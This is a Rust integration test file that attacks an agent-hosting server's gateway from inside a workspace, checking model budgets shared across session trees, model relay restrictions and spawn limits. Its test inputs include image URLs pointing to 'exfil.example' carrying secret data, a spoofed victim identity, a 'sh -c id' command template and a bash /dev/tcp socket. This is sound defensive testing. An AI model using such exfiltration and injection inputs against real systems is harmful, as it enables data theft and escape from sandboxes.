//! What a workspace may ask of the server through its gateway, attacked from inside the
//! workspace: a session tree's model budget (children and forks share their root's), the model
//! relay's policy (the model pinned, one answer, no provider-side tools), and the children a
//! workspace may spawn (its own repo and agent only).

use axum::http::StatusCode;
use scripted_model::{Reply, ScriptedModel};
use serde_json::{Value, json};
use tandem_protocol::{Event, EventKind, Session, SessionDetail, SessionId};
use tandem_server::sessions::budget::{self, Whose};

use crate::harness::TestServer;
use crate::matrix;

mod trees;

/// A server whose workspaces' model is `model` (`scripted-1`), with `tweak` applied.
async fn server(
    model: &ScriptedModel,
    tweak: impl FnOnce(&mut tandem_server::config::Config),
) -> Option<TestServer> {
    let url = model.base_url.clone();
    crate::workspaces::server(move |c| {
        c.agents.model_base_url = Some(url);
        c.agents.model = "scripted-1".into();
        tweak(c);
    })
    .await
}

fn turn_ended(evs: &[Event]) -> bool {
    evs.iter()
        .any(|e| matches!(e.kind, EventKind::TurnEnded { .. }))
}

/// Posts `body` to `path` on the session's gateway from inside its workspace, as any process
/// there can (through the agent's loopback forwarder): the answer's status and body.
async fn from_workspace(s: &TestServer, id: SessionId, path: &str, body: &str) -> (u16, String) {
    assert!(!body.contains('\''), "the body goes in single quotes");
    // bash (for /dev/tcp), the script passed literally.
    let cmd = format!(
        "bash <<'SCRIPT'\nexec 3<>/dev/tcp/127.0.0.1/4100 && printf 'POST {path} HTTP/1.0\\r\\nHost: gateway\\r\\nContent-Type: application/json\\r\\nContent-Length: {}\\r\\n\\r\\n%s' '{body}' >&3 && cat <&3\nSCRIPT\n",
        body.len()
    );
    let r = crate::session_workspaces::exec(s, id, &cmd).await;
    let (head, answer) = r
        .stdout
        .split_once("\r\n\r\n")
        .unwrap_or_else(|| panic!("no HTTP answer: {r:?}"));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status: {head}"));
    (status, answer.to_string())
}

/// A session on a new repo `name` whose first turn has run (so its gateway listens).
async fn session_after_a_turn(s: &TestServer, name: &str, prompt: &str) -> SessionId {
    let src = crate::session_workspaces::source_repo("[workspace]\nsetup = []\n");
    let repo = crate::session_workspaces::add_repo(s, name, src.path()).await;
    let created: SessionDetail = s
        .post(
            "/api/sessions",
            json!({ "repo_id": repo, "prompt": prompt }),
        )
        .send()
        .await
        .parse();
    crate::agent_runs::wait_events(s, created.session.id, turn_ended).await;
    created.session.id
}

/// Workspace → the server's model account: an automation's run with a budget of one model
/// request whose agent spawns three children (two of them new sessions, one a fork of its
/// workspace) makes one model request in the whole tree; every child is refused with whose
/// budget it was, and shows the tree's budget as its limit.
#[tokio::test]
async fn an_automations_budget_of_one_holds_across_the_children_and_forks_its_agent_spawns() {
    let model = ScriptedModel::start(vec![
        Reply {
            tool_calls: vec![
                (
                    "spawn_sessions".into(),
                    json!({ "prompt": "child: work", "variants": 2 }),
                ),
                (
                    "spawn_sessions".into(),
                    json!({ "prompt": "child: forked work", "fork": true }),
                ),
            ],
            ..Reply::default()
        }
        .for_prompt("parent"),
    ])
    .await;
    model.fallback(Reply::tool("run_command", json!({ "command": "true" })));
    let Some(s) = server(&model, |c| c.agents.max_model_requests_per_session = 50).await else {
        return;
    };
    let src = crate::session_workspaces::source_repo("[workspace]\nsetup = []\n");
    let repo = crate::session_workspaces::add_repo(&s, "acme/tree", src.path()).await;
    let made = s
        .post(
            "/api/automations",
            json!({ "repo_id": repo, "name": "fan out", "prompt": "parent: split {{body.task}}", "trigger": { "kind": "webhook" }, "max_model_requests": 1 }),
        )
        .send()
        .await;
    assert_eq!(made.status, StatusCode::CREATED);
    let hook = made.json()["webhook_url"].as_str().unwrap().to_string();
    let path = hook.split_once("/api/").unwrap().1;
    let run = s
        .req(axum::http::Method::POST, &format!("/api/{path}"))
        .json(&json!({ "task": "the work" }))
        .send()
        .await;
    assert_eq!(run.status, StatusCode::ACCEPTED);
    let root: SessionId = run.json()["session_id"].as_str().unwrap().parse().unwrap();
    let evs = crate::agent_runs::wait_events(&s, root, |e| {
        turn_ended(e)
            && e.iter()
                .filter(|e| matches!(e.kind, EventKind::ChildSpawned { .. }))
                .count()
                == 3
    })
    .await;
    let children: Vec<SessionId> = evs
        .iter()
        .filter_map(|e| match e.kind {
            EventKind::ChildSpawned { child_id, .. } => Some(child_id),
            _ => None,
        })
        .collect();
    for child in &children {
        let cevs = crate::agent_runs::wait_events(&s, *child, turn_ended).await;
        let said = serde_json::to_string(&cevs).unwrap();
        assert!(said.contains("its automation's budget"), "{said}");
        let shown: SessionDetail = s
            .get(&format!("/api/sessions/{child}"))
            .send()
            .await
            .parse();
        assert_eq!(
            (shown.model_requests, shown.model_request_limit),
            (1, Some(1)),
            "the child shows its tree's use and budget"
        );
    }
    assert_eq!(
        model.requests().len(),
        1,
        "one model request in the whole tree: {:#?}",
        model
            .requests()
            .iter()
            .map(|r| r.user_messages())
            .collect::<Vec<_>>()
    );
    for id in children.iter().chain([&root]) {
        s.post(&format!("/api/sessions/{id}/stop"), json!({}))
            .send()
            .await;
    }
}

/// Workspace → the server's model account and the internet: a request through the gateway
/// naming another model reaches the model with the configured one, a huge `max_tokens` is
/// lowered (and the agent's own request, naming no limit, gets the server's), the identity
/// fields carry the tree's, not the workspace's choice, and provider-side tools (web search) and
/// extensions never reach it; `n = 50`, a remote image or video (the provider would fetch it),
/// object-shaped content and a body that is not JSON are refused with a 400 the agent can read,
/// too many tools with a 413, and none of them costs budget.
#[tokio::test]
async fn the_model_relay_pins_the_model_and_keeps_provider_tools_and_many_answers_out() {
    let model = ScriptedModel::start(vec![]).await;
    model.fallback(Reply::text("hello"));
    let Some(s) = server(&model, |c| c.agents.max_output_tokens = 4096).await else {
        return;
    };
    let id = session_after_a_turn(&s, "acme/relay", "say hello").await;
    let function = json!({ "type": "function", "function": { "name": "run_command", "parameters": { "type": "object" } } });
    let body = json!({
        "model": "gpt-expensive-9",
        "messages": [{ "role": "user", "content": "relayed: hi" }],
        "max_tokens": 10_000_000,
        "user": "victim@example.com",
        "safety_identifier": "victim",
        "tools": [function, { "type": "web_search" }, { "type": "web_search_preview" }],
        "web_search_options": { "search_context_size": "high" },
        "plugins": [{ "id": "web" }],
    });
    let (status, answer) = from_workspace(&s, id, "/v1/chat/completions", &body.to_string()).await;
    assert_eq!(status, 200, "{answer}");
    let seen = model.requests();
    assert_eq!(seen.len(), 2, "the turn's request and the relayed one");
    assert_eq!(
        seen[0].body["max_completion_tokens"], 4096,
        "the agent's own request, which names no limit, gets the server's"
    );
    let relayed = &seen[1].body;
    assert_eq!(relayed["messages"][0]["content"], "relayed: hi");
    assert_eq!(relayed["model"], "scripted-1", "the configured model");
    assert_eq!(relayed["max_tokens"], 4096);
    assert!(relayed.get("max_completion_tokens").is_none(), "{relayed}");
    let identity = relayed["user"].as_str().unwrap();
    assert!(identity.starts_with("tandem-"), "{identity}");
    assert_eq!(
        relayed["safety_identifier"], identity,
        "the tree's identity"
    );
    assert_eq!(relayed["tools"], json!([function]), "function tools only");
    for gone in ["web_search_options", "plugins"] {
        assert!(relayed.get(gone).is_none(), "{gone} reached the model");
    }
    let tool = json!({ "type": "function", "function": { "name": "f" } });
    let too_many_tools = vec![tool; tandem_protocol::limits::MAX_MODEL_TOOLS + 1];
    let refused: [(&str, Value, u16, &str); 6] = [
        (
            "many answers",
            json!({ "messages": [{ "role": "user", "content": "x" }], "n": 50 }),
            400,
            "n must be 1",
        ),
        (
            "a remote image",
            json!({ "messages": [{ "role": "user", "content": [{ "type": "image_url", "image_url": { "url": "https://exfil.example/?d=secret" } }] }] }),
            400,
            "data: URL",
        ),
        (
            "a remote video",
            json!({ "messages": [{ "role": "user", "content": [{ "type": "video_url", "video_url": { "url": "https://exfil.example/v.mp4" } }] }] }),
            400,
            "is not relayed: a model request may hold text",
        ),
        (
            "object-shaped content",
            json!({ "messages": [{ "role": "user", "content": { "type": "image", "source": { "type": "url", "url": "https://exfil.example/" } } }] }),
            400,
            "must be a string or an array of content parts",
        ),
        (
            "too many tools",
            json!({ "messages": [{ "role": "user", "content": "x" }], "tools": too_many_tools }),
            413,
            "at most 256 tools",
        ),
        ("not JSON", json!("{not json"), 400, "not JSON"),
    ];
    for (what, body, code, why) in refused {
        let body = body.as_str().map_or_else(|| body.to_string(), String::from);
        let (status, answer) = from_workspace(&s, id, "/v1/chat/completions", &body).await;
        assert_eq!(status, code, "{what}: {answer}");
        assert!(answer.contains(why), "{what}: {answer}");
    }
    assert_eq!(
        model.requests().len(),
        2,
        "nothing refused reached the model"
    );
    let shown: SessionDetail = s.get(&format!("/api/sessions/{id}")).send().await.parse();
    assert_eq!(shown.model_requests, 2, "refused requests cost no budget");
    s.post(&format!("/api/sessions/{id}/stop"), json!({}))
        .send()
        .await;
}

/// Workspace → the server's model account, when the model cannot be reached: with its
/// endpoint down (a closed port) or no model configured any more, a model request gets a 503
/// that says so (naming the endpoint by scheme, host and port only: a key in its URL stays out),
/// and the tree's budget is unchanged, for the agent's own requests and a relayed one alike.
#[tokio::test]
async fn a_model_request_that_never_reaches_the_model_costs_no_budget() {
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let down = format!("http://tandem:sk-in-the-url@127.0.0.1:{port}/v1?key=sk-in-the-query");
    let unreachable = format!("the model endpoint http://127.0.0.1:{port} is not reachable");
    let body = json!({ "messages": [{ "role": "user", "content": "hi" }] }).to_string();
    let used = async |s: &TestServer, id: SessionId| {
        let shown: SessionDetail = s.get(&format!("/api/sessions/{id}")).send().await.parse();
        shown.model_requests
    };

    // The endpoint is down: the agent's own request and a relayed one are both given back.
    let model = ScriptedModel::start(vec![]).await;
    let Some(s) = server(&model, |c| c.agents.model_base_url = Some(down.clone())).await else {
        return;
    };
    let id = session_after_a_turn(&s, "acme/down", "say hello").await;
    let (status, answer) = from_workspace(&s, id, "/v1/chat/completions", &body).await;
    assert_eq!(status, 503, "{answer}");
    assert!(answer.contains(&unreachable), "{answer}");
    assert!(!answer.contains("sk-in-the"), "the key stays out: {answer}");
    let timeline = serde_json::to_string(&crate::session_workspaces::events(&s, id).await).unwrap();
    assert!(!timeline.contains("sk-in-the"), "{timeline}");
    assert_eq!(used(&s, id).await, 0, "nothing reached the model");
    s.post(&format!("/api/sessions/{id}/stop"), json!({}))
        .send()
        .await;

    // The model is unset after a turn: refused before the budget is touched.
    let model = ScriptedModel::start(vec![]).await;
    model.fallback(Reply::text("hello"));
    let Some(s) = server(&model, |c| c.agents.model_base_url = None).await else {
        return;
    };
    let set = |url: &str| {
        s.req(axum::http::Method::PUT, "/api/settings")
            .bearer(&s.admin_token)
            .json(&json!({ "model_base_url": url }))
            .send()
    };
    assert_eq!(set(&model.base_url).await.status, StatusCode::OK);
    let id = session_after_a_turn(&s, "acme/unset", "say hello").await;
    assert_eq!(used(&s, id).await, 1, "the turn's request");
    assert_eq!(set("").await.status, StatusCode::OK);
    let (status, answer) = from_workspace(&s, id, "/v1/chat/completions", &body).await;
    assert_eq!(status, 503, "{answer}");
    assert!(answer.contains("no model is configured"), "{answer}");
    assert_eq!(used(&s, id).await, 1, "the refused request cost nothing");
    assert_eq!(model.requests().len(), 1);
    s.post(&format!("/api/sessions/{id}/stop"), json!({}))
        .send()
        .await;
}

/// Workspace → other repos and command templates: a workspace that asks its gateway for a child
/// on another repo (and that repo's write token), or with a command agent of its choosing, is
/// refused, and no session is made.
#[tokio::test]
async fn a_workspace_cannot_spawn_children_on_another_repo_or_with_a_command_agent() {
    let model = ScriptedModel::start(vec![]).await;
    model.fallback(Reply::text("done"));
    let Some(s) = server(&model, |_| {}).await else {
        return;
    };
    let id = session_after_a_turn(&s, "acme/home", "look around").await;
    let other = crate::harness::make_repo(&s, "acme/secret").await;
    let before: Vec<Session> = s.get("/api/sessions").send().await.parse();
    let asks = [
        (
            json!({ "prompt": "x", "repo_id": other }),
            "on its own repo only",
        ),
        (
            json!({ "prompt": "x", "repo_id": other, "fork": true }),
            "on its own repo only",
        ),
        (
            json!({ "prompt": "x", "agent": { "kind": "command", "template": "sh -c 'id' {prompt}" } }),
            "with its own agent only",
        ),
    ];
    for (ask, why) in asks {
        let ask = ask.to_string().replace('\'', "\\u0027");
        let (status, answer) = from_workspace(&s, id, "/tandem/children", &ask).await;
        assert_eq!(status, 403, "{ask}: {answer}");
        assert!(answer.contains(why), "{answer}");
    }
    let after: Vec<Session> = s.get("/api/sessions").send().await.parse();
    assert_eq!(
        after.iter().map(|s| s.id).collect::<Vec<_>>(),
        before.iter().map(|s| s.id).collect::<Vec<_>>(),
        "no session was made"
    );
    assert!(
        !crate::session_workspaces::events(&s, id)
            .await
            .iter()
            .any(|e| matches!(e.kind, EventKind::ChildSpawned { .. })),
        "no child in the timeline"
    );
    s.post(&format!("/api/sessions/{id}/stop"), json!({}))
        .send()
        .await;
}

/// Store: a tree's budget is its root's, and two of its sessions racing for its last requests
/// never pass it together (40 concurrent requests from three sessions of a tree with a budget
/// of 5: exactly 5 get through), while another tree keeps its own budget.
async fn a_trees_budget_holds_when_its_sessions_race_for_it(s: TestServer) {
    use tandem_protocol::{AgentSpec, Author, AuthorKind, CreateSession, RepoId};
    let repo: RepoId = crate::harness::make_repo(&s, "acme/race")
        .await
        .parse()
        .unwrap();
    let db = &s.state.db;
    let create = |parent: Option<SessionId>| async move {
        let req = CreateSession {
            repo_id: repo,
            prompt: String::new(),
            branch: None,
            agent: None,
            context: None,
        };
        let author = Author {
            kind: AuthorKind::Automation,
            user_id: None,
            name: "test".into(),
        };
        tandem_server::sessions::create_with_parent(
            db,
            author,
            req,
            &AgentSpec::Builtin,
            parent,
            Some("t".into()),
        )
        .await
        .unwrap()
        .session
        .id
    };
    let root = create(None).await;
    let child = create(Some(root)).await;
    let grandchild = create(Some(child)).await;
    let other = create(None).await;
    tandem_store::sessions::set_model_budget(db, root, 5)
        .await
        .unwrap();
    let cap = 100;
    let mut racers = Vec::new();
    for i in 0..40 {
        let db = db.clone();
        let who = [root, child, grandchild][i % 3];
        racers.push(tokio::spawn(async move {
            budget::take_model_request(&db, cap, who).await.is_ok()
        }));
    }
    let mut passed = 0;
    for r in racers {
        passed += usize::from(r.await.unwrap());
    }
    assert_eq!(passed, 5, "the tree's budget, once");
    let b = budget::model_budget(db, cap, grandchild).await.unwrap();
    assert_eq!(
        (b.root, b.used, b.limit, b.whose),
        (root, 5, 5, Whose::Automation)
    );
    let err = budget::take_model_request(db, cap, child)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("its automation's budget"), "{err}");
    assert!(budget::take_model_request(db, cap, other).await.is_ok());
    let b = budget::model_budget(db, cap, other).await.unwrap();
    assert_eq!((b.used, b.limit, b.whose), (1, cap.into(), Whose::Server));
    // Without a budget of its own, a tree stops at the server's limit, whoever asks.
    for _ in 1..cap {
        budget::take_model_request(db, cap, other).await.unwrap();
    }
    let err = budget::take_model_request(db, cap, other)
        .await
        .unwrap_err();
    assert!(
        err.to_string().contains("max_model_requests_per_session"),
        "{err}"
    );
}
matrix!(a_trees_budget_holds_when_its_sessions_race_for_it);
